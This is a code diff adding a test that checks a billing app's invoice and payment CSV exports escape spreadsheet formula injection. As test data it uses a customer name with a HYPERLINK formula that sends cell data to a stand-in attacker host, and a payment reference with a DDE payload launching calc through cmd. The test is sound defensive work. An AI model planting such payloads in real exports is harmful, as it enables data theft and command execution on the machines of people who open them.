@@ -67,3 +67,25 @@ def test_exports_are_for_finance_and_admins(tenant: Tenant, client_for, role: st
     client = client_for(getattr(tenant, role))
     assert client.get("/staff/billing/invoices.csv").status_code == 403
     assert client.get("/staff/billing/payments.csv").status_code == 403
+
+
+def test_exports_neutralise_spreadsheet_formulas_and_keep_negative_numbers(tenant: Tenant, client_for) -> None:
+    tenant.customer.name = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")'
+    tenant.customer.save()
+    invoice = issued(tenant.customer, line("Licences", "1", "100.00", "0"))
+    payment_record(
+        partner=tenant.partner,
+        customer=tenant.customer,
+        actor=None,
+        amount=Decimal("30.00"),
+        received_on=invoice.issue_date,
+        reference="-2+3+cmd|' /C calc'!A0",
+    )
+    client = client_for(tenant.finance)
+    invoice_row = _rows(client.get("/staff/billing/invoices.csv"))[0]
+    assert invoice_row["customer"] == "'" + tenant.customer.name
+    assert invoice_row["balance"] == "70.00"
+    payment_row = _rows(client.get("/staff/billing/payments.csv"))[0]
+    assert payment_row["reference"] == "'-2+3+cmd|' /C calc'!A0"
+    assert payment_row["customer"].startswith("'=HYPERLINK(")
+    assert payment_row["amount"] == "30.00"
